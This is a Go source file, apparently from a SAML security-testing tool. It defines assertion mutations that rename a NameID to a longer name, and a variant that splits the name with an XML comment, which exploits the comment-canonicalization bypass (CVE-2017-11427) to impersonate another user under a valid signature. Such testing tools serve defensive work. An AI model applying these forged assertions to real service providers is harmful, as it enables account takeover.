package forge

import (
	"errors"

	"github.com/beevik/etree"
)

// lengthening is what makes the victim's name another person's. It begins with
// a letter, so that the longer name never holds the victim's as a whole word.
const lengthening = "ing.example"

// LongerName has the IdP name a person whose name begins with that of
// Context.Carry: NameID and every attribute value that names the signer. Such
// an account is what an outsider would open. It is the control of
// CommentInName.
func LongerName() Mutation {
	return before("a name that begins with the other person's", func(r *etree.Element, with Context) error {
		return rename(r, func(e *etree.Element, victim string) { e.SetText(victim + lengthening) }, with.Carry)
	})
}

// CommentInName is LongerName with a comment behind the victim's name.
// Canonicalization leaves comments out, so the signature is that of the longer
// name, whoever puts the comment in and whenever; a reader that stops at the
// comment sees the victim (CVE-2017-11427 and others).
func CommentInName() Mutation {
	return before("a name that begins with the other person's, cut by a comment", func(r *etree.Element, with Context) error {
		return rename(r, func(e *etree.Element, victim string) {
			e.Child = nil
			e.CreateText(victim)
			e.CreateComment("")
			e.CreateText(lengthening)
		}, with.Carry)
	})
}

// rename has to call say on the NameID and on each attribute value that names
// the signer. Other values stay: they are not about who somebody is.
func rename(r *etree.Element, say func(e *etree.Element, victim string), victim Identity) error {
	if victim.NameID == "" {
		return errors.New("forge: nobody to name: the login carries no second person")
	}
	err := each(r, nsAssertion, "NameID", func(e *etree.Element) error {
		if e.Text() == victim.NameID {
			return errors.New("forge: the NameID names that person already")
		}
		say(e, victim.NameID)
		return nil
	})
	if err != nil {
		return err
	}
	for _, v := range findAll(r, nsAssertion, "AttributeValue") {
		if to, ok := victim.Replace[v.Text()]; ok {
			say(v, to)
		}
	}
	return nil
}
